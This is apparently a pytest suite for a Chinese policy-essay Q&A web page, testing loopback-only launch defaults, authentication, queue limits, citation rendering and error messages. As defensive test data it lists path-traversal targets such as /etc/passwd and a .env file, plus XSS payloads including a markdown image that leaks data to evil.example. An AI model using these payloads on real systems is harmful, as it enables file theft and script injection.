"""The page's launch rules, file routes, rendering safety, error handling and admission control."""

from __future__ import annotations

import threading
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from ui_fakes import CHUNKS, ESSAYS, FakeAssistant, offline_settings, running_app

from rag.config import Settings
from rag.errors import ConfigError
from rag.types import Answer, Citation, Hit
from ui import render
from ui.app import (
    BUSY_MESSAGE,
    INTERNAL_ERROR,
    QUEUE_MAX,
    RUNNING,
    ChatPage,
    Gate,
    Session,
    author_chosen,
    essay_chosen,
    is_loopback,
    launch_options,
    parse_auth,
)

# --- launch settings ----------------------------------------------------------------------------------------------


def test_launch_defaults_are_loopback_private_and_bounded(tmp_path: Path) -> None:
    opts = launch_options(offline_settings(tmp_path))
    kw = opts.launch_kwargs()
    assert kw["server_name"] == "127.0.0.1"
    assert kw["share"] is False
    assert kw["auth"] is None
    assert kw["max_file_size"]
    assert kw["allowed_paths"] == []
    assert str(tmp_path.resolve()) in kw["blocked_paths"]
    assert kw["mcp_server"] is False and kw["enable_monitoring"] is False and kw["ssr_mode"] is False
    assert opts.queue_max_size == QUEUE_MAX and opts.default_concurrency_limit == RUNNING
    assert "googleapis" not in str(kw["theme"].to_dict())


def test_admission_limits_come_from_the_settings(tmp_path: Path) -> None:
    settings = Settings.from_env({"POLICY_QA_HOME": str(tmp_path), "POLICY_QA_MAX_RUNNING": "8",
                                  "POLICY_QA_MAX_WAITING": "100"})
    opts = launch_options(settings)
    assert opts.default_concurrency_limit == 8 and opts.queue_max_size == 216
    assert Gate.for_settings(settings).capacity == 108
    with pytest.raises(ConfigError, match="POLICY_QA_MAX_RUNNING"):
        Settings.from_env({"POLICY_QA_MAX_RUNNING": "0"})


@pytest.mark.parametrize("host", ["0.0.0.0", "192.168.1.20", "::", "example.org"])
def test_non_loopback_host_requires_auth(tmp_path: Path, host: str) -> None:
    with pytest.raises(ConfigError, match="POLICY_QA_AUTH"):
        launch_options(offline_settings(tmp_path), host=host)


def test_non_loopback_host_with_auth_or_explicit_flag(tmp_path: Path) -> None:
    settings = offline_settings(tmp_path)
    with_auth = launch_options(settings.__class__.from_env({"POLICY_QA_HOME": str(tmp_path),
                                                            "POLICY_QA_AUTH": "reader:s3cret"}), host="0.0.0.0")
    assert with_auth.launch_kwargs()["auth"] == [("reader", "s3cret")]
    assert "s3cret" not in repr(with_auth)
    flagged = launch_options(settings, host="0.0.0.0", allow_remote_without_auth=True)
    assert flagged.server_name == "0.0.0.0" and flagged.auth is None


@pytest.mark.parametrize("raw", ["nopassword", ":x", "user:", "a:b,broken"])
def test_malformed_auth_is_a_config_error(raw: str) -> None:
    with pytest.raises(ConfigError, match="POLICY_QA_AUTH"):
        parse_auth(raw)


@pytest.mark.parametrize(("host", "expected"), [("127.0.0.1", True), ("localhost", True), ("::1", True),
                                                ("127.3.4.5", True), ("0.0.0.0", False), ("10.0.0.1", False)])
def test_is_loopback(host: str, expected: bool) -> None:
    assert is_loopback(host) is expected


# --- a running app: launch state and file routes ------------------------------------------------------------------


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Any]]:
    """The page with a fake assistant on 127.0.0.1, a data folder with index files, and a .env beside it."""
    root = tmp_path_factory.mktemp("served")
    home = root / "home"
    (home / "index").mkdir(parents=True)
    (home / "index" / "chroma.sqlite3").write_text("index bytes")
    (home / "cache").mkdir()
    (home / "cache" / "embeddings.npy").write_text("cache bytes")
    dotenv = root / ".env"
    dotenv.write_text("OPENAI_API_KEY=sk-never-served")
    (root / ".hidden").write_text("dotfile")
    settings = offline_settings(home)
    with running_app(FakeAssistant(), settings) as (demo, url):
        yield {"demo": demo, "url": url, "home": home, "root": root}


def _get(url: str) -> tuple[int, bytes]:
    try:
        with urllib.request.urlopen(url, timeout=10) as resp:  # noqa: S310 - loopback only
            return resp.status, resp.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read()


@pytest.mark.slow
def test_running_app_launch_state(served: dict[str, Any]) -> None:
    demo, url = served["demo"], served["url"]
    assert url.startswith("http://127.0.0.1:")
    assert demo.share is False and demo.share_url is None
    assert demo.analytics_enabled is False
    assert demo._queue.max_size == QUEUE_MAX
    assert demo._queue.default_concurrency_limit == RUNNING
    assert demo.max_file_size and demo.max_file_size <= 1024 * 1024
    status, body = _get(url + "/")
    assert status == 200 and "政策文章问答".encode() in body
    assert b"fonts.googleapis.com" not in body


@pytest.mark.slow
def test_page_itself_is_served(served: dict[str, Any]) -> None:
    """The control for the refusals below: the same client does reach the app."""
    status, body = _get(served["url"] + "/gradio_api/info")
    assert status == 200 and b"/chat" in body


@pytest.mark.slow
@pytest.mark.parametrize("target", [
    "/etc/passwd",
    "{home}/index/chroma.sqlite3",
    "{home}/cache/embeddings.npy",
    "{root}/.env",
    "{root}/.hidden",
    "../../../../../../etc/passwd",
    "%2Fetc%2Fpasswd",
    "..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    "{repo}/pyproject.toml",
])
@pytest.mark.parametrize("prefix", ["/gradio_api/file=", "/file="])
def test_file_routes_refuse_outside_files(served: dict[str, Any], target: str, prefix: str) -> None:
    path = target.format(home=served["home"], root=served["root"], repo=Path(__file__).resolve().parent.parent)
    status, body = _get(served["url"] + prefix + path)
    assert status in (400, 403, 404), (status, body[:200])
    assert b"root:" not in body and b"sk-never-served" not in body and b"index bytes" not in body


# --- rendering: answers cannot inject markup ----------------------------------------------------------------------


def _answer(text: str, citations: list[Citation] | None = None) -> Answer:
    cites = citations if citations is not None else [Citation(1, CHUNKS["resilience"], True, ())]
    return Answer(question="q", standalone_question="q", answer=text, refused=False, citations=cites,
                  retrieved=[Hit(c.chunk, 0.5) for c in cites], backend="extractive", model="")


def test_a_rewritten_follow_up_is_shown_above_the_answer() -> None:
    answer = _answer("产业韧性是一种能力[1]。")
    answer.question, answer.standalone_question = "其中第二条呢？", "李晓华说的<b>第二条</b>是什么？"
    out = render.answer_html(answer, "k1")
    assert "按上下文理解为：李晓华说的&lt;b&gt;第二条&lt;/b&gt;是什么？" in out
    assert "按上下文理解为" not in render.answer_html(_answer("产业韧性是一种能力[1]。"), "k1")


@pytest.mark.parametrize("evil", [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[点我](javascript:alert(1))",
    "![](http://evil.example/leak.png?q=secret)",
    "<a href='javascript:alert(1)'>x</a>",
    "请访问 https://evil.example/x 或 www.evil.example",
])
def test_answer_html_is_inert(evil: str) -> None:
    out = render.answer_html(_answer(f"产业韧性是一种能力[1]。{evil}"), "k1")
    lowered = out.lower()
    assert "<script" not in lowered and "<img" not in lowered and "<a " not in lowered
    assert "javascript:" not in lowered and "](http" not in lowered
    assert "http://" not in lowered and "https://" not in lowered and "www." not in lowered
    assert "onerror=" not in lowered.replace("onerror=&quot;", "")  # only ever as escaped text


def test_citation_markers_link_to_highlighted_passages() -> None:
    cite = Citation(1, CHUNKS["resilience"], True,
                    ("产业韧性是指产业面对冲击时能够保持稳定运行或者能够快速恢复到正常状态的能力",))
    out = render.answer_html(_answer("产业韧性是一种能力[1]。还有一句[9]。", [cite]), "k7")
    assert '<sup class="pq-cite pq-ref-k7-1"' in out
    assert '<details class="pq-source pq-ref-k7-1"' in out
    assert '<mark class="pq-hl">产业韧性是指产业面对冲击时' in out
    assert "pq-cite-missing" in out  # a marker without a citation is shown but not linked
    assert "李晓华《把握高质量发展要求推进新型工业化》· 新型工业化高质量发展的特征" in out


def test_unsupported_sentences_are_marked() -> None:
    good = Citation(1, CHUNKS["tech"], True, ())
    bad = Citation(2, CHUNKS["ecosystem"], False, ())
    out = render.answer_html(_answer("科学技术是第一生产力[1]。王静主张全面开放[2]。", [good, bad]), "k")
    marked = out.split('<span class="pq-unsupported"')
    span = marked[1].split("</span></span>")[0]
    assert len(marked) == 2 and "王静主张全面开放" in span and "科学技术" not in span
    assert "pq-source-unsupported" in out


def test_paraphrased_citation_highlights_closest_passage_sentence() -> None:
    spans = render.cited_spans(CHUNKS["tech"].text, ["李晓华指出：科学技术是第一生产力"])
    assert [CHUNKS["tech"].text[a:b] for a, b in spans] == ["科学技术是第一生产力。"]
    assert render.cited_spans(CHUNKS["tech"].text, ["完全无关的一句话"]) == []


def test_status_line_names_offline_mode_and_timings() -> None:
    a = _answer("x[1]。")
    a.timings_ms = {"retrieve": 12.0, "generate": 1500.0}
    out = render.status_html(a)
    assert "离线摘录模式" in out and "检索 12 ms" in out and "生成 1.5 s" in out
    a.backend, a.model = "openai", "gpt-4o-mini"
    assert "openai · gpt-4o-mini" in render.status_html(a)


def test_markdown_export_has_footnotes_per_answer() -> None:
    first = _answer("产业韧性是一种能力[1]。")
    second = _answer("科技水平高[1]。生态破坏少[2]。",
                     [Citation(1, CHUNKS["tech"], True, ()), Citation(2, CHUNKS["base"], False, ())])
    md = render.conversation_markdown([
        render.Exchange("什么是产业韧性？", first),
        render.Exchange("限流了吗", error="服务繁忙"),
        render.Exchange("有哪些特征？", second),
    ])
    assert "产业韧性是一种能力[^1]。" in md
    assert "科技水平高[^2]。生态破坏少[^3]。" in md
    assert "[^1]: 李晓华《把握高质量发展要求推进新型工业化》· 新型工业化高质量发展的特征：“" in md
    assert "[^3]: 王成仁《创新驱动产业基础高级化》· 全面系统增强产业基础能力（未核实）" in md
    assert "> 服务繁忙" in md


def test_corpus_outline_lists_sections() -> None:
    out = render.outline_html(ESSAYS[0])
    assert "《把握高质量发展要求推进新型工业化》" in out and "李晓华" in out
    assert out.count("<li>") == len(ESSAYS[0].sections)


# --- handlers: history, errors, busy ------------------------------------------------------------------------------


def _run(page: ChatPage, question: str, session: Session, chat: list[Any] | None = None,
         essay: str = "", author: str = "") -> tuple[list[Any], Session, list[tuple[Any, ...]]]:
    steps = list(page.respond(question, chat or [], session, essay, author))
    last = steps[-1]
    return last[1], last[4], steps


def test_answer_streams_then_final_html_and_history_grows() -> None:
    fake = FakeAssistant()
    page = ChatPage(fake, Gate())
    chat, session, steps = _run(page, "什么是产业韧性？", Session(), essay="e1", author="李晓华")
    assert len(steps) >= 3  # placeholder, at least one streamed update, final
    assert "pq-caret" in steps[-2][1][-1]["content"]
    assert "pq-ref-" in chat[-1]["content"] and "pq-sources-inline" in chat[-1]["content"]
    assert fake.calls[0].essay == "e1" and fake.calls[0].author == "李晓华"
    _run(page, "它和科技有什么关系？", session, chat)
    assert [t.content for t in fake.calls[1].history][0] == "什么是产业韧性？"
    assert len(session.exchanges) == 2
    assert Path(session.export_path or "").read_text(encoding="utf-8").startswith("# 政策文章问答")


def test_sessions_do_not_share_history() -> None:
    fake = FakeAssistant()
    page = ChatPage(fake, Gate())
    a, b = Session(), Session()
    _run(page, "第一个会话的问题", a)
    _run(page, "第二个会话的问题", b)
    assert fake.calls[1].history == ()


def test_empty_question_makes_no_call() -> None:
    fake = FakeAssistant()
    chat, session, _ = _run(ChatPage(fake, Gate()), "   ", Session())
    assert fake.calls == [] and chat == [] and session.exchanges == []


@pytest.mark.parametrize(("question", "shown", "hidden"), [
    ("会限流吗", "限流", None),
    ("会崩溃吗", INTERNAL_ERROR, "secret internal detail"),
])
def test_errors_become_chinese_chat_messages(question: str, shown: str, hidden: str | None) -> None:
    page = ChatPage(FakeAssistant(), Gate())
    chat, session, _ = _run(page, question, Session())
    assert "pq-error" in chat[-1]["content"] and shown in chat[-1]["content"]
    if hidden:
        assert hidden not in chat[-1]["content"]
    assert session.exchanges[-1].error
    # the page keeps working afterwards
    chat, session, _ = _run(page, "什么是产业韧性？", session, chat)
    assert "pq-ref-" in chat[-1]["content"] and len(session.exchanges) == 2


def test_broken_stream_keeps_partial_answer() -> None:
    chat, session, _ = _run(ChatPage(FakeAssistant(), Gate()), "中断一下", Session())
    content = chat[-1]["content"]
    assert content.startswith("产业韧性是指产业面对冲击") and "回答中断" in content
    assert session.exchanges[-1].partial and session.history() == []


def test_gate_refuses_beyond_capacity() -> None:
    gate = Gate(running=1, waiting=1, max_wait_s=5)
    inside = threading.Event()
    release = threading.Event()

    def hold() -> None:
        with gate.slot() as ok:
            assert ok
            inside.set()
            release.wait(5)

    holder = threading.Thread(target=hold)
    holder.start()
    inside.wait(5)
    waiter_result: list[bool] = []
    waiter = threading.Thread(target=lambda: waiter_result.append(_enter(gate)))
    waiter.start()
    for _ in range(100):  # let the waiter take its place in line
        if gate._inside == 2:
            break
        threading.Event().wait(0.01)
    with gate.slot() as third:
        assert third is False
    release.set()
    holder.join(5)
    waiter.join(5)
    assert waiter_result == [True]


def _enter(gate: Gate) -> bool:
    with gate.slot() as ok:
        return ok


def test_busy_gate_answers_with_busy_message() -> None:
    gate = Gate(running=1, waiting=0)
    page = ChatPage(FakeAssistant(), gate)
    with gate.slot():
        chat, session, _ = _run(page, "什么是产业韧性？", Session())
        assert page.api_chat("什么是产业韧性？")["busy"] is True
    assert BUSY_MESSAGE in chat[-1]["content"]
    assert session.exchanges[-1].error == BUSY_MESSAGE


@pytest.mark.slow
def test_configured_auth_guards_the_api(tmp_path: Path) -> None:
    settings = offline_settings(tmp_path).__class__.from_env({"POLICY_QA_HOME": str(tmp_path),
                                                           "POLICY_QA_AUTH": "reader:s3cret"})
    with running_app(FakeAssistant(), settings) as (_, url):
        status, _ = _get(url + "/gradio_api/info")
        assert status in (401, 403)
        status, body = _get(url + "/config")
        assert status in (401, 403) and "产业韧性".encode() not in body
        login = urllib.request.Request(url + "/login", data=b"username=reader&password=wrong", method="POST",
                                       headers={"Content-Type": "application/x-www-form-urlencoded"})
        try:
            urllib.request.urlopen(login, timeout=10)  # noqa: S310 - loopback only
            wrong_ok = True
        except urllib.error.HTTPError:
            wrong_ok = False
        assert wrong_ok is False
        jar = urllib.request.build_opener(urllib.request.HTTPCookieProcessor())
        good = urllib.request.Request(url + "/login", data=b"username=reader&password=s3cret", method="POST",
                                      headers={"Content-Type": "application/x-www-form-urlencoded"})
        assert jar.open(good, timeout=10).status == 200
        assert jar.open(url + "/gradio_api/info", timeout=10).status == 200


def test_serve_refuses_a_busy_port_before_loading_anything(tmp_path: Path) -> None:
    import socket

    from ui.app import serve

    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        port = taken.getsockname()[1]
        with pytest.raises(ConfigError, match=f"Port {port}"):
            serve(offline_settings(tmp_path), "127.0.0.1", port)
    assert not (tmp_path / "index").exists()


def test_cited_passages_appear_once_collapsed_under_the_answer_with_the_affiliation_labelled() -> None:
    answer = next(e for e in FakeAssistant().stream("什么是产业韧性？") if isinstance(e, Answer))
    html_ = render.answer_html(answer, "k1")
    assert html_.count('class="pq-sources-inline"') == 1 and "<details class=\"pq-sources-inline\">" in html_
    assert html_.count("<details class=\"pq-source ") == len(answer.citations)
    assert "作者单位</span>李晓华：中国社会科学院工业经济研究所研究员" in html_
    panel = render.sources_panel_html(answer, "k1")
    assert "pq-ref-k1" not in panel  # the side panel repeats none of them
    assert "区域科技创新平台载体" in panel  # only the retrieved passage that was not cited


def test_scope_names_the_filter_as_readers_do() -> None:
    assert render.scope_label(ESSAYS, "e2", "王静") == "王静《全面提升产业体系现代化水平》"
    assert render.scope_label(ESSAYS, "", "傅晋华") == "傅晋华的文章"
    assert render.scope_label(ESSAYS, None, None) == ""
    answer = _answer("产业韧性是一种能力[1]。")
    assert "检索范围：傅晋华的文章" in render.answer_html(answer, "k", "傅晋华的文章")
    assert "检索范围" not in render.answer_html(answer, "k")


def test_filters_cannot_contradict_each_other() -> None:
    assert essay_chosen(ESSAYS, "e2", "傅晋华") == ("e2", "王静")  # an essay brings its author
    assert essay_chosen(ESSAYS, "", "傅晋华") == ("", "傅晋华")
    assert author_chosen(ESSAYS, "e2", "傅晋华") == ("", "傅晋华")  # someone else's essay is reset
    assert author_chosen(ESSAYS, "e2", "王静") == ("e2", "王静")
    assert author_chosen(ESSAYS, "e2", "") == ("e2", "")


def test_page_scope_line_and_generating_state() -> None:
    page = ChatPage(FakeAssistant(delay_s=0.01), Gate())
    chat, _session, steps = _run(page, "什么是产业韧性？", Session(), essay="", author="傅晋华")
    shown = [step[1][-1]["content"] for step in steps]
    assert "正在检索原文" in shown[0]
    assert "正在生成回答" in shown[1]  # the backend said it asked the model, before any text
    assert "检索范围：傅晋华的文章" in chat[-1]["content"]
